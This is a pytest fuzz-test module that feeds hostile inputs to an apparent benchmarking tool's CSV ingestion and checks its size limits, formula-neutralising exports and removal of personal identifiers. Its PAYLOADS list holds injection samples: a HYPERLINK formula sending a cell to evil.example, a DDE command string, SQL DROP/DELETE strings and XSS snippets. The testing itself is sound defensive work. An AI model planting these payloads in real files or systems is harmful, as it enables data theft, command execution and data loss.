"""Hostile input through ``Bench.ingest``, limits, and what exports let out.

Every generated file must either import or be refused with one of the project's own
errors (:class:`SSIBenchError` subclasses) — never another exception, never a hang (each
test is bounded by pytest-timeout). Files that import must account for every row.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import random
import re
import time

import pandas as pd
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ssi_bench import export
from ssi_bench.api import Bench
from ssi_bench.config import Settings
from ssi_bench.errors import IngestError, SSIBenchError
from ssi_bench.model import IngestOptions
from tests.conftest import TEST_SECRET, TODAY, csv_bytes

LIMITS = Settings(secret=TEST_SECRET, max_field_chars=500, max_rows=2_000, max_upload_mb=2)
OPTIONS = (
    IngestOptions(today=TODAY),
    IngestOptions(person="me@x.org", sector="S", date=TODAY, today=TODAY),
)
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "'; DROP TABLE scores; --",
    "Robert'); DELETE FROM uploads WHERE ('1'='1",
    "$as_of",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "**bold** _x_ `code` # heading",
    "$\\frac{1}{0}$",
    "\x00",
    "a\x00b",
    "\u202e\u0645",
    "🙂" * 3,
    '"',
    '""quoted""',
    "\n",
    "1e400",
    "-0",
    "NaN",
)
HEADERS = (
    "email", "date", "ssi", "brand", "people", "insights", "relationships", "sector",
    "network", "Team", "Datum", "Naam", "meetings", "revenue", "industry rank",
)  # fmt: skip

_bench: Bench | None = None
COUNTS: dict[str, int] = {}


def bench() -> Bench:
    """One in-memory Bench for every example (creating one per example costs ~50 ms)."""
    global _bench
    if _bench is None:
        _bench = Bench.memory(LIMITS)
    return _bench


def survives(data: bytes, name: str, kind: str) -> None:
    """Ingest ``data`` with every option set: a result that adds up, or our own error."""
    COUNTS[kind] = COUNTS.get(kind, 0) + 1
    b = bench()
    for options in OPTIONS:
        try:
            result = b.ingest(data, name, options)
        except SSIBenchError:
            continue
        assert result.rows_accepted + result.rows_rejected == result.rows_read
        assert result.rows_new + result.rows_updated <= result.rows_accepted
        for r in result.rejects:
            assert r.line >= 1 and r.field and r.reason


FAST = settings(
    max_examples=1000,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    database=None,
)

cell = st.one_of(
    st.sampled_from(PAYLOADS),
    st.text(max_size=10),
    st.from_regex(r"-?\d{1,3}([.,]\d{1,2})?", fullmatch=True),
    st.dates(dt.date(2025, 1, 1), TODAY).map(lambda d: d.strftime("%d/%m/%Y")),
    st.dates(dt.date(2025, 1, 1), TODAY).map(dt.date.isoformat),
)
header = st.lists(st.sampled_from(HEADERS) | st.sampled_from(PAYLOADS), min_size=1, max_size=9)


@st.composite
def table(draw: st.DrawFn) -> list[list[str]]:
    head = draw(header)
    rows = draw(st.lists(st.lists(cell, min_size=len(head), max_size=len(head)), max_size=12))
    return [head, *rows]


def render(rows: list[list[str]], sep: str) -> str:
    buf = io.StringIO()
    csv.writer(buf, delimiter=sep, lineterminator="\n").writerows(rows)
    return buf.getvalue()


@pytest.mark.timeout(120)
@FAST
@given(data=st.binary(max_size=3_000), name=st.sampled_from(["f.csv", "f.txt", "f.xlsx", "f"]))
def test_random_bytes_import_or_are_refused_with_our_own_error(data, name):
    survives(data, name, "random bytes")


@pytest.mark.timeout(120)
@settings(FAST, max_examples=600)
@given(rows=table(), sep=st.sampled_from([",", ";", "\t", "|"]))
def test_payloads_in_every_field_and_header_import_or_are_refused(rows, sep):
    survives(render(rows, sep).encode("utf-8"), "payload.csv", "payloads")


@pytest.mark.timeout(120)
@settings(FAST, max_examples=300)
@given(rows=table(), seps=st.lists(st.sampled_from([",", ";", "\t", "|"]), min_size=2))
def test_mixed_separators_line_by_line_import_or_are_refused(rows, seps):
    lines = [seps[i % len(seps)].join(r) for i, r in enumerate(rows)]
    survives(("\n".join(lines) + "\n").encode("utf-8"), "mixed.csv", "mixed separators")


@pytest.mark.timeout(120)
@settings(FAST, max_examples=300)
@given(rows=table(), cut=st.integers(min_value=1), bom=st.booleans(), le=st.booleans())
def test_truncated_utf16_imports_or_is_refused(rows, cut, bom, le):
    text = render(rows, "\t")
    data = text.encode("utf-16-le" if le else "utf-16-be")
    if bom:
        data = (b"\xff\xfe" if le else b"\xfe\xff") + data
    survives(data[: max(1, cut % (len(data) + 1))], "unicode.txt", "truncated utf-16")


@pytest.mark.timeout(120)
@settings(FAST, max_examples=300)
@given(rows=table(), where=st.lists(st.integers(min_value=0), min_size=1, max_size=8))
def test_nul_bytes_anywhere_import_or_are_refused(rows, where):
    data = bytearray(render(rows, ",").encode("utf-8"))
    for w in where:
        data.insert(w % (len(data) + 1), 0)
    survives(bytes(data), "nul.csv", "NUL bytes")


@pytest.mark.slow
@pytest.mark.timeout(180)
@settings(FAST, max_examples=20)
@given(
    size=st.integers(300_000, 1_500_000),
    column=st.sampled_from(["email", "sector", "network", "ssi", "colour"]),
    quoted=st.booleans(),
    sep=st.sampled_from([",", ";"]),
)
def test_megabyte_long_fields_are_refused_clearly(size, column, quoted, sep):
    value = ("=" if column != "ssi" else "") + "x" * size
    if quoted:
        value = '"' + value + '"'
    head = ["email", "date", "sector", "ssi", column if column != "email" else "network"]
    row = ["a@x.org", TODAY.isoformat(), "S", "50", "T"]
    row[head.index(column) if column in head else 0] = value
    data = (sep.join(head) + "\n" + sep.join(row) + "\n").encode()
    COUNTS["megabyte fields"] = COUNTS.get("megabyte fields", 0) + 1
    started = time.monotonic()
    with pytest.raises(IngestError) as err:
        bench().ingest(data, "long.csv", IngestOptions(today=TODAY))
    assert time.monotonic() - started < 10
    message = str(err.value)
    assert len(message) < 1_000  # the value itself is not echoed back
    assert "x" * 100 not in message
    assert re.search(r"(longer|above|limit|MB)", message), message


@pytest.mark.slow
@pytest.mark.timeout(120)
@pytest.mark.parametrize("payload", ["plain", "=1+1", '"q",;'])
def test_ten_thousand_columns_import_with_the_unknown_ones_listed(payload):
    extra = 10_000
    head = ["email", "date", "sector", "ssi", *[f"{payload}{i}" for i in range(extra)]]
    row = ["a@x.org", TODAY.isoformat(), "S", "50", *["1"] * extra]
    data = render([head, row], ",").encode()
    COUNTS["10,000 columns"] = COUNTS.get("10,000 columns", 0) + 1
    started = time.monotonic()
    result = bench().ingest(data, "wide.csv", IngestOptions(today=TODAY))
    assert time.monotonic() - started < 20
    assert result.rows_accepted == 1
    assert len(result.ignored_columns) == extra


@pytest.mark.timeout(60)
@pytest.mark.parametrize("quoted", [False, True], ids=["plain", "quoted"])
def test_a_ragged_file_of_n_lines_and_one_n_field_line_reads_in_linear_time(quoted):
    """N short lines plus one line of N fields once took O(N^2) cells (10,000: ~42 s).

    Every row is still accounted for: the wide one is rejected with its true cell count.
    """
    n = 10_000
    lines = ["email,date,sector,ssi"]
    # totals 1..100: a total of 0 with no pillars is a failed capture (issue 12), not data
    lines += [f"p{i}@x.org,{TODAY.isoformat()},S,{i % 100 + 1}" for i in range(n)]
    wide = f"a@x.org,{TODAY.isoformat()},S,50," + ",".join(["1"] * n)
    lines.append(wide if not quoted else wide.replace("a@x.org", '"a@x.org"'))
    data = ("\n".join(lines) + "\n").encode()
    with Bench.memory(Settings(secret=TEST_SECRET, max_rows=20_000)) as b:
        started = time.monotonic()
        result = b.ingest(data, "ragged.csv", IngestOptions(today=TODAY))
        elapsed = time.monotonic() - started
    assert (result.rows_read, result.rows_accepted, result.rows_rejected) == (n + 1, n, 1)
    reject = result.rejects[0]
    assert (reject.line, reject.field) == (n + 2, "row")
    assert reject.reason == f"the row has {n + 4} cells but the header has 4"
    # A bound against a hang, not a benchmark: the quadratic parse took ~42 s here.
    assert elapsed < 15


def test_a_header_of_many_columns_over_many_lines_is_refused_before_parsing(monkeypatch):
    """Lines × header columns is the parse cost of a ragged file: above the budget it is
    refused with a message that says what to do, without allocating the cells."""
    from ssi_bench import reader

    monkeypatch.setattr(reader, "MAX_CELLS", 50_000)
    head = ["email", "date", "sector", "ssi", *[f"x{i}" for i in range(1_000)]]
    data = render([head], ",") + "a@x.org,2026-11-01,S,50\n" * 100
    with pytest.raises(IngestError, match=r"1,004 columns over 102 lines.*Remove the columns"):
        bench().ingest(data.encode(), "wide.csv", IngestOptions(today=TODAY))


@pytest.mark.timeout(60)
def test_a_carriage_return_inside_quoted_headers_is_not_a_line_break():
    extra = 2_000
    head = ["email", "date", "sector", "ssi", *[f"\r=cr{i}" for i in range(extra)]]
    row = ["a@x.org", TODAY.isoformat(), "S", "50", *["1"] * extra]
    quoted_head = ",".join(f'"{h}"' for h in head)  # csv.writer leaves a lone CR unquoted
    data = quoted_head + "\n" + render([row], ",")
    result = bench().ingest(data.encode(), "cr.csv", IngestOptions())
    assert (result.rows_read, result.rows_accepted) == (1, 1)
    assert len(result.ignored_columns) == extra
    assert result.ignored_columns[0] == "=cr0"  # header cells are stripped of white space


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # LF file: a CR inside quotes stays in the cell, a stray CR outside breaks the line
        ('email,ssi,sector\n"a\rb@x.org",50,S\nc@x.org,40,S\rd@x.org,30,S\n', 3),
        # CRLF file with a CRLF inside a quoted cell (a newline written by Excel)
        ('email,ssi,sector\r\n"a@x.org",50,"S\r\nT"\r\nc@x.org,40,S\r\n', 2),
        # classic Mac file: CR is the only line break, also inside quotes
        ('email,ssi,sector\r"a@x.org",50,"S\rT"\rc@x.org,40,S\r', 2),
    ],
    ids=["lf-with-cr-in-cell", "crlf", "cr-only"],
)
def test_line_breaks_are_read_as_the_file_means_them(text, expected):
    from ssi_bench.reader import read_bytes

    result = read_bytes(text.encode(), "f.csv", settings=LIMITS)
    assert len(result.frame) == expected
    cells = result.frame["person"].tolist()
    if expected == 3:
        assert cells[0] == "a\rb@x.org"
        assert result.frame["_line"].tolist() == [2, 3, 4]
    else:
        assert result.frame["sector"].tolist()[0] == "S\nT"
        assert result.frame["_line"].tolist() == [2, 4]


def test_an_upload_whose_every_row_is_rejected_is_recorded_empty_in_a_database_with_data():
    """Found by the fuzz run: the empty frame's untyped person_key made DuckDB fail."""
    with Bench.memory(Settings(secret=TEST_SECRET)) as b:
        b.ingest(csv_bytes(good_rows(3)), "ok.csv", IngestOptions(today=TODAY))
        bad = good_rows(2)
        for r in bad:
            r["ssi"] = 500
        result = b.ingest(csv_bytes(bad), "bad.csv", IngestOptions(today=TODAY))
        assert (result.rows_accepted, result.rows_rejected, result.rows_new) == (0, 2, 0)
        assert b.status().rows == 3
        assert [u.rows_live for u in b.uploads()] == [0, 3]


def test_zz_report_fuzzed_file_counts():
    """Runs last in this module: prints how many files each strategy generated."""
    total = sum(COUNTS.values())
    print(f"\nfuzzed files: {total} {COUNTS}")
    if "random bytes" in COUNTS:  # the whole module ran, not a single test
        assert total >= 2_000


# ---------------------------------------------------------------------- limits
def good_rows(n: int, sector: str = "Software") -> list[dict[str, object]]:
    return [
        {"email": f"p{i}@x.org", "date": TODAY.isoformat(), "sector": sector, "ssi": 50}
        for i in range(n)
    ]


def test_a_file_above_the_size_limit_is_refused_before_reading():
    with Bench.memory(Settings(secret=TEST_SECRET, max_upload_mb=1)) as b:
        data = csv_bytes(good_rows(3))
        data += b"#" * (1024 * 1024 + 1 - len(data))
        with pytest.raises(IngestError, match=r"above the limit of 1 MB"):
            b.ingest(data, "big.csv", IngestOptions(today=TODAY))
        assert b.uploads() == []


def test_every_upload_path_refuses_bytes_over_the_limit_whatever_the_caller():
    """The browser widget's limit is advice; Bench refuses on every path, before reading."""
    limit = 1024 * 1024
    with Bench.memory(Settings(secret=TEST_SECRET, max_upload_mb=1)) as b:
        at_limit = csv_bytes(good_rows(12))
        at_limit += b"\n" * (limit - len(at_limit))  # blank lines: still a valid file
        over = at_limit + b"\n"
        assert len(at_limit) == limit and len(over) == limit + 1
        text_over = "x" * (limit + 1)
        options = IngestOptions(today=TODAY)
        calls = {
            "ingest": lambda: b.ingest(over, "big.csv", options),
            "ingest_files": lambda: b.ingest_files([("ok.csv", at_limit), ("big.csv", over)]),
            "preview": lambda: b.preview(over, "big.csv", options),
            "ingest_text": lambda: b.ingest_text(text_over, options),
            "preview_text": lambda: b.preview_text(text_over, options),
        }
        for name, call in calls.items():
            with pytest.raises(IngestError, match=r"above the limit of 1 MB") as err:
                call()
            assert "SSI_BENCH_MAX_UPLOAD_MB" in str(err.value), name
        # a multi-byte character counts by its UTF-8 bytes
        with pytest.raises(IngestError, match="above the limit"):
            b.ingest_text("é" * (limit // 2 + 1), options)
        assert b.uploads() == []
        # exactly at the limit is accepted
        assert b.preview(at_limit, "ok.csv", options).rows_valid == 12
        assert b.ingest(at_limit, "ok.csv", options).rows_new == 12


def test_a_file_with_more_rows_than_allowed_is_refused_and_one_at_the_limit_imports():
    with Bench.memory(Settings(secret=TEST_SECRET, max_rows=100)) as b:
        with pytest.raises(IngestError, match=r"101 data rows, more than the limit of 100"):
            b.ingest(csv_bytes(good_rows(101)), "many.csv", IngestOptions(today=TODAY))
        assert b.uploads() == []
        assert b.ingest(csv_bytes(good_rows(100)), "ok.csv", IngestOptions(today=TODAY)).rows_new
        assert b.status().rows == 100


def test_a_field_longer_than_allowed_is_refused_naming_line_and_column():
    with Bench.memory(Settings(secret=TEST_SECRET, max_field_chars=50)) as b:
        rows = good_rows(5)
        rows[3]["sector"] = "s" * 51
        with pytest.raises(IngestError) as err:
            b.ingest(csv_bytes(rows), "long.csv", IngestOptions(today=TODAY))
        message = str(err.value)
        assert "5" in message and "sector" in message and "50" in message
        assert "s" * 51 not in message
        assert b.uploads() == []
        rows[3]["sector"] = "s" * 50
        assert b.ingest(csv_bytes(rows), "ok.csv", IngestOptions(today=TODAY)).rows_new == 5


# ---------------------------------------------------------------------- exports
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def loaded_with_payload_names() -> tuple[Bench, list[str]]:
    """Cohorts named by payloads, big enough (25 people) for quantiles to be published."""
    b = Bench.memory(Settings(secret=TEST_SECRET))
    rng = random.Random(4)
    names = ["=1+1", "+SUM(A1)", "-2", "@cmd", "\t=tab", "\r=cr", "<b>html</b>", "[md](x)"]
    rows = []
    for s, name in enumerate(names):
        for i in range(25):
            rows.append(
                {
                    "email": f"Person.{s}.{i}@Example.com",
                    "profile": f"https://www.linkedin.com/in/person-{s}-{i}/",
                    "name": f"Firstname{s}x{i} Lastname",
                    "date": TODAY.isoformat(),
                    "sector": name,
                    "network": f"={name}",
                    "ssi": round(rng.uniform(10, 90), 2),
                }
            )
    result = b.ingest(csv_bytes(rows, quote_all=True), "=evil.csv", IngestOptions(today=TODAY))
    assert result.rows_new == len(rows), result.rejects[:3]
    identifiers = [str(r[k]) for r in rows for k in ("email", "profile", "name")]
    return b, identifiers


def test_csv_export_neutralises_every_formula_cell_and_keeps_numbers_numbers():
    b, _ = loaded_with_payload_names()
    with b:
        data = b.export_benchmarks("csv")
    text = data.decode("utf-8-sig")
    cells = list(csv.reader(io.StringIO(text, newline="")))
    header, body = cells[0], cells[1:]
    assert body
    numeric = {"n", "p10", "p25", "p50", "p75", "p90"}
    for row in body:
        for name, value in zip(header, row, strict=True):
            assert not value.startswith(FORMULA_STARTS), (name, value)
            if name in numeric and value != "":
                float(value)  # a plain number, not quoted text
                assert not value.startswith("'")
    names = {row[header.index("name")] for row in body}
    assert {"'=1+1", "'+SUM(A1)", "'-2", "'@cmd", "'=tab"} <= names  # sectors are trimmed
    assert "<b>html</b>" in names  # not a formula: left as it is


def test_formula_safe_leaves_negative_numbers_alone_and_quotes_negative_looking_text():
    labels = ["-5", "=A1", "ok", None, "\r=1", "\t=1", "@x", "+1"]
    values = [-5.0, 1.5, 0.0, -1.0, 2.0, 3.0, 4.0, 5.0]
    frame = pd.DataFrame({"label": labels, "value": values})
    out = export.formula_safe(frame)
    assert out["value"].tolist() == values
    got = ["<NA>" if pd.isna(v) else v for v in out["label"]]
    assert got == ["'-5", "'=A1", "ok", "<NA>", "'\r=1", "'\t=1", "'@x", "'+1"]
    text = export.to_csv_bytes(frame).decode("utf-8-sig")
    assert "\n'-5,-5.0\n" in text.replace("\r\n", "\n")


def test_csv_export_header_cells_are_neutralised_too():
    frame = pd.DataFrame({"=evil": [1], "+x": ["a"]})
    header = export.to_csv_bytes(frame).decode("utf-8-sig").splitlines()[0]
    assert header == "'=evil,'+x"


def test_parquet_export_keeps_types():
    b, _ = loaded_with_payload_names()
    with b:
        data = b.export_benchmarks("parquet")
    table = pq.read_table(io.BytesIO(data))
    schema = {f.name: str(f.type) for f in table.schema}
    assert schema["n"] == "int64"
    assert all(schema[q] == "double" for q in ("p10", "p25", "p50", "p75", "p90"))
    assert schema["as_of"] == "date32[day]"
    assert schema["suppressed"] == "bool"
    assert schema["name"] in ("string", "large_string")
    names = set(table.column("name").to_pylist())
    assert "=1+1" in names  # Parquet is data, not a spreadsheet: kept verbatim


def test_no_export_carries_anything_that_identifies_a_person():
    b, identifiers = loaded_with_payload_names()
    bad_row = {"email": "x@y.org", "date": TODAY.isoformat(), "sector": "S", "ssi": 500}
    options = IngestOptions(today=TODAY)
    with b:
        keys = {b.person_key(i) for i in identifiers[::3]}
        blobs = [
            b.export_benchmarks("csv"),
            b.export_benchmarks("json"),
            b.export_benchmarks("parquet"),
            b.rejects_csv(b.preview(csv_bytes([bad_row]), "r.csv", options).rejects),
        ]
    text = "\n".join(blob.decode("utf-8", errors="replace").casefold() for blob in blobs)
    for ident in identifiers:
        assert ident.casefold() not in text
    for key in keys:
        assert key not in text  # not even the pseudonyms
    assert "x@y.org" not in text
    assert "@example.com" not in text and "linkedin.com/in" not in text
